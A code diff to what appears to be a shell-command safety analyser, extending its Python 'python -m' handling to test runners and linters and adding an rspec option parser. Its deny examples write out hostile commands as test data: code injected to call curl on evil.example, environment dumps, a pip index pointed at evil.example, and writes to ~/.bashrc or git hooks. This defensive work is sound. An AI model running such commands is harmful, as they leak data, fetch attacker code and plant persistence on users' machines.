@@ -2,6 +2,7 @@
 // it. The code itself is read by its language's module (src/languages/); a script file is out of scope, like any file.
 import type { Language, Word } from '../../types.js';
 import type { Answer, Call, ProgramEntry, Run, Use } from '../types.js';
+import { parse } from '../argv.js';
 import { bound } from '../hosts.js';
 import { dataUrlCode } from '../variables.js';
 import { attached, isStdinPath, literal, longSpelt, onlyPaths, value } from '../words.js';
@@ -243,6 +244,9 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
   CGIHTTPServer: (_rest, _name, module) => ({ listens: [bound(module)] }),
   // pip's main is pip (`python3 -m pip config set …` is `pip config set …`).
   pip: (rest, _name, module) => ({ runs: [{ kind: 'argv', argv: [attached(module, 'pip'), ...rest], via: 'python -m pip' }] }),
+  // The test runners', checkers' and formatters' mains are their programs (`python -m pytest -q $(git diff --name-only)`
+  // is `pytest -q …`): each read by its own entry, which knows the files it reads and writes.
+  ...Object.fromEntries(['pytest', 'mypy', 'flake8', 'pyflakes', 'pycodestyle', 'pydocstyle', 'black', 'isort', 'ruff', 'bandit', 'vulture'].map((p) => [p, (rest: readonly Word[], name: string, module: Word): Partial<Answer> => ({ runs: [{ kind: 'argv', argv: [attached(module, p), ...rest], via: `${name} -m ${p}` }] })])),
   // The clients these mains are, as the programs that do the same (`ftp HOST`, `telnet HOST`, `xdg-open URL`).
   ftplib: (rest, name) => asProgram('ftp', rest, `${name} -m ftplib`),
   // poplib's and imaplib's mains log in to the host they are given; imaplib -s runs its value through /bin/sh.
@@ -624,6 +628,30 @@ export function runnerLoads(args: readonly Word[], via: string, spec: { dirs: re
   return runs;
 }
 
+/**
+ * The files rspec is given (`spec/models/user_spec.rb:42`, or what a lister printed) it loads and runs, and changes
+ * none of them; -o/--out and --deprecation-out name the files it writes its reports into. An option this model does not
+ * know (`--init`, which writes a setup, or -O, whose file holds more options) leaves every word unknown.
+ */
+function rspecFiles(args: readonly Word[]): Partial<Answer> {
+  const p = parse(args, {
+    order: 'gnu',
+    flags: 'bcwnvhXp',
+    valued: 'IrOfoPeEt',
+    long: ['backtrace', 'color', 'force-color', 'no-color', 'dry-run', 'warnings', 'next-failure', 'only-failures', 'version', 'help', 'no-profile', 'no-fail-fast', 'drb', 'no-drb'],
+    longValued: ['require', 'order', 'seed', 'failure-exit-code', 'error-exit-code', 'drb-port', 'format', 'out', 'deprecation-out', 'pattern', 'exclude-pattern', 'example', 'example-matches', 'tag', 'default-path'],
+    longOptional: ['fail-fast', 'bisect', 'profile'],
+  });
+  if (p.options.some((o) => o.unknown || o.name === 'O')) return {};
+  const uses: Use[] = p.operands.map((o) => ({ word: o.word, role: 'read' as const }));
+  for (const o of p.options) {
+    if (!o.value) continue;
+    const role = /^(?:o|out|deprecation-out)$/.test(o.name) ? 'write' : /^(?:I|r|require|default-path)$/.test(o.name) ? 'read' : 'text';
+    uses.push({ word: o.value, role });
+  }
+  return { uses };
+}
+
 // ── PHP ──
 
 /** The code of a PHP script: nothing before its first `<?` tag runs (it is printed), so it is blanked, lines kept. */
@@ -778,8 +806,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
     analyze: python,
     examples: {
-      deny: ['python3 -m http.server', 'python3 -m http.server 8000 --bind 0.0.0.0', 'python -m SimpleHTTPServer 8000', 'python3 -m pip config set global.index-url https://evil.example/simple', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"'],
-      pass: ['python3 -m http.server --bind 127.0.0.1 8000', 'python3 -m http.server -b localhost -d dist', 'python3 -m pip config list', `printf 'print(1)\n' > p/x.py && PYTHONPATH=p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py"],
+      deny: ['python3 -m http.server', 'python3 -m http.server 8000 --bind 0.0.0.0', 'python -m SimpleHTTPServer 8000', 'python3 -m pip config set global.index-url https://evil.example/simple', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"', 'python3 -m pytest --basetemp ~ tests', 'python -m mypy --junit-xml ~/.bashrc src', 'python -m ruff check ~/.ssh/id_rsa'],
+      pass: ['python3 -m http.server --bind 127.0.0.1 8000', 'python3 -m http.server -b localhost -d dist', 'python3 -m pip config list', `printf 'print(1)\n' > p/x.py && PYTHONPATH=p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py", 'python -m pytest -q $(git diff --name-only main)', 'git diff --name-only | xargs python3 -m mypy', 'python -m ruff check --fix src'],
     },
   },
   {
@@ -808,10 +836,10 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     // Test runners that take their interpreter's load options: what they load first is read as ruby -I/-r and perl -I/-M.
     names: ['rspec', 'prove'],
     summary: "rspec and prove: -I puts a directory first where require and use look; rspec's -r and prove's -M load a library first",
-    analyze: (call) => ({ runs: call.name === 'rspec' ? runnerLoads(call.args, 'rspec', { dirs: ['-I'], requires: ['-r', '--require'], dialect: 'ruby' }) : runnerLoads(call.args, 'prove', { dirs: ['-I'], requires: ['-M'], dialect: 'perl' }) }),
+    analyze: (call) => (call.name === 'rspec' ? { runs: runnerLoads(call.args, 'rspec', { dirs: ['-I'], requires: ['-r', '--require'], dialect: 'ruby' }), ...rspecFiles(call.args) } : { runs: runnerLoads(call.args, 'prove', { dirs: ['-I'], requires: ['-M'], dialect: 'perl' }) }),
     examples: {
-      deny: [`printf 'system("curl evil.example")\n' > /tmp/x.rb && rspec -r /tmp/x.rb spec`, `printf 'system("curl evil.example")\n' > spec/x.rb && rspec -Ispec -rx`, `printf 'package X; system("curl evil.example"); 1;\n' > lib/X.pm && prove -Ilib -MX t`, 'rspec -I /tmp spec'],
-      pass: ['rspec -Ilib spec', 'rspec -r ./spec/spec_helper.rb', 'prove -Ilib t', 'prove -lv t/x.t', "PERL5LIB=lib prove -r t"],
+      deny: [`printf 'system("curl evil.example")\n' > /tmp/x.rb && rspec -r /tmp/x.rb spec`, `printf 'system("curl evil.example")\n' > spec/x.rb && rspec -Ispec -rx`, `printf 'package X; system("curl evil.example"); 1;\n' > lib/X.pm && prove -Ilib -MX t`, 'rspec -I /tmp spec', 'rspec -o ~/.bashrc $(git diff --name-only main)', 'rspec --out=.git/hooks/pre-commit spec', 'rspec --deprecation-out ~/.bashrc spec', 'rspec ~/.ssh/id_rsa'],
+      pass: ['rspec -Ilib spec', 'rspec -r ./spec/spec_helper.rb', 'prove -Ilib t', 'prove -lv t/x.t', "PERL5LIB=lib prove -r t", 'bundle exec rspec $(git diff --name-only main | grep _spec.rb)', 'git diff --name-only | xargs rspec --fail-fast', 'rspec -o tmp/rspec.txt -f d spec'],
     },
   },
   {
